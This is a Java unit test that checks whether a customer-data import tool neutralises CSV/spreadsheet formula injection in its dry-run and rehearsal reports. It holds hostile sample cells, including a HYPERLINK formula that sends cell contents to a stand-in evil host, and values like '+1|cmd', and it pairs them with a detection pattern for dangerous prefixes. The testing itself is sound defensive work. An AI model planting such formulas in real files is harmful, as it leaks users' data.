package io.rapport.intake.dryrun;

import static org.assertj.core.api.Assertions.assertThat;

import io.rapport.Imported;
import io.rapport.Rehearsed;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.apache.commons.csv.CSVFormat;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Reports are opened in spreadsheets: what a customer has written is never run there as a formula. */
class SpreadsheetTest {

    private static final String FORMULA = "=HYPERLINK(\"http://evil.example/\"&A1;\"x\")";

    @TempDir
    Path folder;

    @Test
    void no_report_of_a_dry_run_begins_a_cell_as_a_formula() throws IOException {
        var one = file(
                "=one.csv",
                "id;name;email;phone;contract;vip",
                cell(FORMULA) + ";Ada Quast;ada@example.org;+49 30 1234567;+SUM(1);@x",
                "-4711;Bo Wolkenstein;bo@example.org;;;",
                "+1|cmd;Cy Wolk;no address;;=2;",
                "@alone;Dora Einsam;dora@example.org;;;");
        var two = file(
                "two.csv",
                "id;name;email;phone;contract;vip",
                "-x;Ada Quast;ada@example.org;+49 30 7654321;-SUM(1);@x",
                cell("\t=1") + ";Bo Wolkenstein;bo@example.org;;;");
        var promises = file(
                "promises.csv", "id;customer;text;due;team", "=1+1;@nobody;We call.;2026-12-01;care-team", "-2;+3;;;");

        Imported.of(folder, one, two, promises);

        var ids = cells("matches.csv").stream().map(row -> row.get(0)).toList();
        assertThat(ids).contains("'" + FORMULA, "-4711");
        try (var reports = Files.list(folder.resolve("out"))) {
            var names = reports.map(report -> report.getFileName().toString())
                    .filter(name -> name.endsWith(".csv"))
                    .toList();
            assertThat(names).hasSize(7);
            for (var name : names) {
                assertThat(dangerous(cells(name))).as(name).isEmpty();
            }
        }
        assertThat(cells("conflicts.csv").toString()).contains("'+SUM(1)", "'-SUM(1)");
        assertThat(cells("promises.csv").toString()).contains("'=1+1", "'@nobody");
    }

    @Test
    void nor_does_one_of_a_rehearsal() throws IOException {
        var opened = ",Closed,Group 7,1/3/2016 09:00,";
        var run = Rehearsed.of(
                folder,
                Rehearsed.MAPPING,
                (Rehearsed.HEADING
                                + "=one,@Caller" + opened + "1/3/2016 09:05,low\n"
                                + "-two,+Caller" + opened + "yesterday,low\n")
                        .getBytes(StandardCharsets.UTF_8));

        assertThat(run.cases()).as(run.said()).containsKey("'=one");
        assertThat(run.of("'=one", "customer_id")).isEqualTo("'@Caller");
        assertThat(run.file("unusable.csv")).contains(",'-two,");
    }

    private static List<String> dangerous(List<List<String>> cells) {
        return cells.stream()
                .flatMap(List::stream)
                .filter(cell -> cell.matches("(?s)[=+\\-@\t\r\n].*") && !cell.matches("[+-]?\\d+"))
                .toList();
    }

    private List<List<String>> cells(String report) throws IOException {
        var rows = new ArrayList<List<String>>();
        try (var csv = CSVFormat.RFC4180.parse(
                Files.newBufferedReader(folder.resolve("out").resolve(report)))) {
            csv.forEach(row -> rows.add(row.toList()));
        }
        return rows;
    }

    private static String cell(String value) {
        return '"' + value.replace("\"", "\"\"") + '"';
    }

    private String file(String name, String... lines) throws IOException {
        return Files.write(folder.resolve(name), Stream.of(lines).toList()).toString();
    }
}
